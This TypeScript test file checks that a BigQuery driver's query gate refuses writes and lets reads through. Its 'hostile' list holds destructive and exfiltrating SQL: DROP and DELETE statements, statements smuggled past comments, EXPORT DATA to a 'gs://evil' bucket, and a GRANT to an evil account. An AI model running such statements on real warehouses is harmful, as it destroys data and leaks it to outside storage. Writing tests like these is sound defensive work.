import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { open as openSession } from '../../src/warehouse/drivers/bigquery/driver.ts';
import type { DriverSession } from '../../src/warehouse/driver.ts';
import type { Warehouse } from '../../src/warehouse/warehouse.ts';
import { type BigqueryServer, type ServedCall, startBigquery } from '../engines/bigquery/server.ts';
import { bigqueryConfig, openBigquery } from '../support/bigquery.ts';
import { generous, never } from '../support/warehouses.ts';

const script = `
  CREATE SCHEMA secret; CREATE TABLE secret.salaries (name VARCHAR, pay INTEGER);
  INSERT INTO secret.salaries VALUES ('a', 1);
  CREATE TABLE canary (n INTEGER, tags VARCHAR[], at_day DATE);
  INSERT INTO canary VALUES (1, ['x'], '2024-02-29'), (2, ['y', 'z'], '2024-03-01');
  CREATE TABLE events_20260101 (n INTEGER); CREATE TABLE events_20260102 (n INTEGER);
  INSERT INTO events_20260101 VALUES (1); INSERT INTO events_20260102 VALUES (2);
  CREATE TABLE daily (day DATE, n INTEGER); INSERT INTO daily VALUES ('2026-01-01', 1);
  CREATE VIEW payroll AS SELECT name FROM secret.salaries;
  CREATE MACRO twice(x) AS x * 2;
`;
const project = 'shop-1';
const salaries = { projectId: project, datasetId: 'secret', tableId: 'salaries' };

let server: BigqueryServer;
let warehouse: Warehouse;
beforeAll(async () => {
  server = await startBigquery({
    script,
    datasets: { [project]: ['main', 'secret'] },
    behindViews: { 'main.payroll': [salaries] },
    routines: ['main.twice'],
    requiredFilters: { 'main.daily': 'day' },
  });
  warehouse = await openBigquery(server);
});
beforeEach(() => {
  server.fault = () => undefined;
});
afterAll(async () => {
  await warehouse?.close();
  await server?.close();
});

const content = () =>
  server.read(
    `SELECT (SELECT list(c) FROM canary AS c), (SELECT list(s) FROM secret.salaries AS s), (SELECT count(*) FROM duckdb_tables()), (SELECT count(*) FROM duckdb_functions()), (SELECT count(*) FROM duckdb_schemas())`,
  );
/** The jobs that the server got: those that run, not the plans. */
const isJob = ({ method, path, body }: ServedCall): boolean =>
  method === 'POST' && path.endsWith('/jobs') && !body.includes('"dryRun":true');
const query = (sql: string) => warehouse.query(sql, generous, never);

const hostile = [
  // Comments do not nest, and a carriage return ends one.
  'SELECT 2 /* /* */, EXTERNAL_QUERY("eu.pg", "DELETE FROM t") -- */ */',
  'SELECT 2 -- x\r, EXTERNAL_QUERY("eu.pg", "DELETE FROM t")',
  'SELECT 2 # x\r, AI.GENERATE("x")\n',
  'SELECT name FROM payroll -- x\r, secret.salaries',
  'SELECT name /* /* */, (SELECT pay FROM secret.salaries) -- */ */\n FROM payroll',
  'DELETE FROM canary WHERE TRUE',
  'delete canary where true',
  'UPDATE canary SET n = 0 WHERE TRUE',
  'INSERT INTO canary (n) VALUES (3)',
  'INSERT canary (n) SELECT 3',
  'MERGE canary AS c USING canary AS d ON c.n = d.n WHEN MATCHED THEN DELETE',
  'TRUNCATE TABLE canary',
  'DROP TABLE canary',
  'DROP TABLE IF EXISTS `shop-1.main.canary`',
  'DROP SCHEMA main CASCADE',
  'ALTER TABLE canary DROP COLUMN n',
  'ALTER TABLE canary SET OPTIONS (expiration_timestamp = TIMESTAMP "2020-01-01")',
  'CREATE TABLE main.evil AS SELECT 1 AS a',
  'CREATE OR REPLACE TABLE canary AS SELECT 1 AS n',
  'CREATE TEMP TABLE evil AS SELECT 1 AS a',
  'CREATE SNAPSHOT TABLE main.evil CLONE main.canary',
  'CREATE TABLE main.evil CLONE main.canary',
  'CREATE VIEW main.evil AS SELECT * FROM canary',
  'CREATE MATERIALIZED VIEW main.evil AS SELECT n FROM canary',
  'CREATE FUNCTION main.evil(x INT64) AS (x)',
  'CREATE TEMP FUNCTION evil(x STRING) RETURNS STRING LANGUAGE js AS "return x"; SELECT evil("a")',
  'CREATE PROCEDURE main.evil() BEGIN DELETE FROM canary WHERE TRUE; END',
  'CREATE MODEL main.evil OPTIONS (model_type = "linear_reg") AS SELECT n AS label FROM canary',
  'CREATE EXTERNAL TABLE main.evil OPTIONS (format = "CSV", uris = ["gs://evil/x"])',
  'CREATE SCHEMA evil',
  'EXPORT DATA OPTIONS (uri = "gs://evil/*.csv", format = "CSV") AS SELECT * FROM canary',
  'LOAD DATA INTO main.canary FROM FILES (format = "CSV", uris = ["gs://evil/x"])',
  'CALL main.evil()',
  'EXECUTE IMMEDIATE "DELETE FROM canary WHERE TRUE"',
  'BEGIN DELETE FROM canary WHERE TRUE; END',
  'BEGIN TRANSACTION; DELETE FROM canary WHERE TRUE; COMMIT TRANSACTION',
  'DECLARE x INT64 DEFAULT 1; DELETE FROM canary WHERE n = x',
  'SET @@dataset_id = "secret"; SELECT * FROM salaries',
  'IF TRUE THEN DELETE FROM canary WHERE TRUE; END IF',
  'WHILE TRUE DO DELETE FROM canary WHERE TRUE; END WHILE',
  'GRANT `roles/bigquery.dataOwner` ON SCHEMA main TO "user:evil@example.com"',
  'REVOKE `roles/bigquery.dataViewer` ON SCHEMA main FROM "user:me@example.com"',
  'ASSERT (SELECT COUNT(*) FROM canary) = 0 AS "x"',
  'SELECT 1; DELETE FROM canary WHERE TRUE',
  'SELECT 1 -- x\n; DELETE FROM canary WHERE TRUE',
  'SELECT 2 # x\n; DROP TABLE canary',
  "SELECT '\\'; DROP TABLE canary; --'; DROP TABLE canary",
  'SELECT r"\\"; DROP TABLE canary; SELECT r"\\"',
  'SELECT """x"; DROP TABLE canary; SELECT "y"""; DROP TABLE canary',
  'SELECT * FROM EXTERNAL_QUERY("eu.crm", "DELETE FROM users")',
  'SELECT * FROM ML.PREDICT(MODEL main.m, TABLE main.canary)',
  'SELECT * FROM ML.GENERATE_TEXT(MODEL main.m, (SELECT "x" AS prompt))',
  'SELECT AI.GENERATE("send it", connection_id => "eu.x")',
  'SELECT KEYS.NEW_KEYSET("AEAD_AES_GCM_256")',
  'SELECT AEAD.DECRYPT_STRING(KEYS.KEYSET_CHAIN("gcp-kms://x", b"x"), b"y", "z")',
  'SELECT main.twice(n) FROM canary',
  'SELECT `main.twice`(n) FROM canary',
  'SELECT `main`.`twice`(n) FROM canary',
  'SELECT SESSION_USER()',
  'SELECT ERROR("x")',
  'SELECT @@project_id',
  'SELECT * FROM secret.salaries',
  'SELECT * FROM `secret.salaries`',
  'SELECT * FROM `shop-1.secret.salaries`',
  'SELECT * FROM shop-1.secret.salaries',
  'SELECT * FROM `other-project.main.canary`',
  'SELECT (SELECT MAX(pay) FROM secret.salaries) FROM canary',
  'SELECT n FROM canary WHERE n IN (SELECT pay FROM `secret`.`salaries`)',
  'WITH canary AS (SELECT * FROM secret.salaries) SELECT * FROM canary',
  'SELECT * FROM main.INFORMATION_SCHEMA.TABLES',
  'SELECT * FROM `region-eu`.INFORMATION_SCHEMA.JOBS',
  'SELECT * FROM main.__TABLES__',
  'SELECT * FROM canary FOR SYSTEM_TIME AS OF "2020-01-01"',
  'SELECT * FROM `main.*`',
  'SELECT * FROM [shop-1:main.canary]',
  '#legacySQL\nSELECT * FROM [shop-1:secret.salaries]',
  'FROM canary |> EXTEND 1 AS a',
  'EXPLAIN DELETE FROM canary WHERE TRUE',
];

const legal = [
  'SELECT n FROM canary ORDER BY n',
  'SELECT n FROM main.canary ORDER BY n',
  'SELECT n FROM `shop-1`.`main`.`canary` ORDER BY n',
  'SELECT n FROM `shop-1.main.canary` ORDER BY n',
  'SELECT n FROM `main.canary` ORDER BY n;',
  'SELECT t FROM canary, UNNEST(tags) AS t ORDER BY t',
  'SELECT COUNT(*), COUNTIF(n > 1), SAFE_DIVIDE(1, 0) FROM canary',
  'SELECT * EXCEPT (tags) FROM canary ORDER BY n',
  'WITH c AS (SELECT n FROM canary) SELECT MAX(n) FROM c',
  'WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r ORDER BY n',
  'SELECT n FROM canary QUALIFY ROW_NUMBER() OVER (ORDER BY n DESC) = 1',
  'SELECT DATE_TRUNC(at_day, MONTH) AS m, COUNT(*) FROM canary GROUP BY m ORDER BY m',
  'SELECT n FROM canary UNION DISTINCT SELECT 3 AS n ORDER BY n',
  'SELECT IF(n = 1, "one", "more; DROP TABLE canary") FROM canary ORDER BY n',
  'SELECT CASE n WHEN 1 THEN "a" END AS a FROM canary ORDER BY n',
  'SELECT SAFE.SUBSTR("abc", 2) AS a',
  'SELECT CAST(n AS STRING) || "x" AS s, SAFE_CAST("y" AS INT64) AS y FROM canary ORDER BY n',
  'SELECT _TABLE_SUFFIX AS day, n FROM `events_*` ORDER BY day',
  'SELECT n FROM events_20260101',
  'SELECT n FROM `main.events_2026*` ORDER BY n',
  'SELECT name FROM payroll',
  'SELECT n FROM daily WHERE day = DATE "2026-01-01"',
  'SELECT tags[OFFSET(0)] AS t, ARRAY_LENGTH(tags) AS l FROM canary ORDER BY n',
  'SELECT n -- the number\nFROM canary /* ; */ ORDER BY n # end',
  "SELECT r'\\d+' AS a, 'it\\'s' AS b, \"\"\"a \"b\" 'c'\"\"\" AS c, DATE '2026-01-01' AS d",
  'SELECT n\r\n-- the number\r\nFROM canary',
];

test('the lists are long enough', () => {
  expect(hostile.length).toBeGreaterThan(60);
  expect(legal.length).toBeGreaterThan(20);
});

describe('a hostile statement', () => {
  test.each(hostile)('is refused and not run: %s', async (sql) => {
    const [before, calls] = [await content(), server.calls.length];
    const error: unknown = await query(sql).then(
      (result) => result,
      (thrown: unknown) => thrown,
    );
    expect(error).toMatchObject({
      code: expect.stringMatching(/^(?:gate_refused|sql_syntax|missing_object)$/),
    });
    expect(server.calls.slice(calls).filter(isJob)).toEqual([]);
    expect(await content()).toEqual(before);
  });
});

describe('a legal statement', () => {
  test.each(legal)('runs: %s', async (sql) => {
    const before = await content();
    expect((await query(sql)).rows.length).toBeGreaterThan(0);
    expect(await content()).toEqual(before);
  });
});

describe('what only BigQuery sees', () => {
  /** BigQuery's plan says more than the text of the statement. */
  const planWith = (said: Readonly<Record<string, unknown>>) => ({
    statistics: { totalBytesProcessed: '0', query: { statementType: 'SELECT', ...said } },
  });
  const answerPlan = (plan: unknown): void => {
    server.fault = (call) => (call.body.includes('"dryRun":true') ? { answer: plan } : undefined);
  };

  test('a table that the text does not show is refused', async () => {
    answerPlan(planWith({ referencedTables: [salaries] }));
    await expect(query('SELECT n FROM canary')).rejects.toMatchObject({
      code: 'missing_object',
      details: { rule: 'table' },
    });
    answerPlan(planWith({ referencedTables: [{ ...salaries, projectId: 'other' }] }));
    await expect(query('SELECT n FROM canary')).rejects.toMatchObject({ code: 'gate_refused' });
  });

  test('a function of people that the text does not show is refused, unless it is allowed', async () => {
    const routine = { projectId: project, datasetId: 'secret', routineId: 'Send' };
    answerPlan(planWith({ referencedRoutines: [routine] }));
    await expect(query('SELECT n FROM canary')).rejects.toMatchObject({
      code: 'gate_refused',
      details: { rule: 'function' },
      message: expect.stringContaining('secret.send'),
    });
    const open = await openBigquery(server, { config: { allow_functions: ['secret.send'] } });
    try {
      expect((await open.query('SELECT n FROM canary', generous, never)).rows).toHaveLength(2);
    } finally {
      await open.close();
    }
  });

  test('a function of people that has the name of one of BigQuery is not that one', async () => {
    const routine = { projectId: project, datasetId: 'main', routineId: 'upper' };
    answerPlan(planWith({ referencedRoutines: [routine] }));
    await expect(query('SELECT upper("a") AS a')).rejects.toMatchObject({
      code: 'gate_refused',
      message: expect.stringContaining('main.upper'),
    });
  });

  test.each([
    'SELECT 2 /* /* */, EXTERNAL_QUERY("eu.pg", "DELETE FROM t") -- */ */',
    'SELECT 2 -- x\r, EXTERNAL_QUERY("eu.pg", "DELETE FROM t")',
  ])('no comment hides a function that the plan does not name: %s', async (sql) => {
    answerPlan(planWith({}));
    await expect(query(sql)).rejects.toMatchObject({
      code: 'gate_refused',
      details: { rule: 'function' },
    });
  });

  test('both may lie behind a view', async () => {
    const routine = { projectId: project, datasetId: 'secret', routineId: 'mask' };
    answerPlan(planWith({ referencedTables: [salaries], referencedRoutines: [routine] }));
    expect((await query('SELECT name FROM payroll')).rows).toEqual([['a']]);
  });

  test.each(['INSERT', 'SCRIPT', 'CREATE_TABLE_AS_SELECT', 'EXPORT_DATA', undefined])(
    'a statement of type %s is refused, whatever the text says',
    async (statementType) => {
      answerPlan({ statistics: { query: { statementType } } });
      const calls = server.calls.length;
      await expect(query('SELECT n FROM canary')).rejects.toMatchObject({
        code: 'gate_refused',
        details: { rule: 'engine' },
      });
      expect(server.calls.slice(calls).filter(isJob)).toEqual([]);
    },
  );

  test('a function that is allowed by name runs', async () => {
    const open = await openBigquery(server, { config: { allow_functions: ['main.twice'] } });
    try {
      await server.execute('CREATE OR REPLACE MACRO main.twice(x) AS x * 2');
      expect(
        (await open.query('SELECT main.twice(n) AS n FROM canary ORDER BY n', generous, never))
          .rows,
      ).toEqual([[2], [4]]);
    } finally {
      await open.close();
    }
  });

  test('a table that must be filtered says by which column', async () => {
    await expect(query('SELECT n FROM daily')).rejects.toMatchObject({
      code: 'query_failed',
      message: expect.stringContaining("column(s) 'day'"),
      hint: expect.stringContaining('filter that column'),
    });
  });
});

describe('behind the gate', () => {
  let session: DriverSession;
  beforeAll(async () => {
    session = await openSession(
      bigqueryConfig(server),
      {
        connection: 'wh',
        projectDir: '/nowhere',
        cacheDir: '/nowhere',
        secrets: () => server.logins.keyFile(server.tokenUri),
      },
      never,
    );
  });
  afterAll(() => session?.close());

  test.each(
    hostile.filter((sql) =>
      /^\s*(?:DELETE|UPDATE|INSERT|MERGE|DROP|ALTER|CREATE|TRUNCATE|EXPORT|LOAD|CALL|BEGIN|DECLARE|GRANT|SELECT 1)/i.test(
        sql,
      ),
    ),
  )('the driver itself runs nothing that BigQuery does not call a SELECT: %s', async (sql) => {
    const before = await content();
    await expect(session.run(sql, generous, never)).rejects.toMatchObject({
      code: 'gate_refused',
      details: { rule: 'engine' },
    });
    expect(await content()).toEqual(before);
  });
});

describe('a login that may write', () => {
  const permissions = ['bigquery.tables.updateData', 'bigquery.tables.delete'];

  test('is refused with what it may and what to do, unless the connection allows it', async () => {
    const writable = await startBigquery({ script, permissions });
    try {
      await expect(openBigquery(writable)).rejects.toMatchObject({
        code: 'warehouse_privilege',
        message: expect.stringContaining(`${permissions.join(', ')} in the dataset main`),
        hint: expect.stringMatching(/roles\/bigquery.dataViewer.*allow_writable_role: true/s),
      });
      const open = await openBigquery(writable, { config: { allow_writable_role: true } });
      try {
        expect(await open.privileges()).toMatchObject({ readOnly: false });
        await expect(open.query('DELETE FROM canary', generous, never)).rejects.toMatchObject({
          code: 'gate_refused',
        });
      } finally {
        await open.close();
      }
    } finally {
      await writable.close();
    }
  });
});
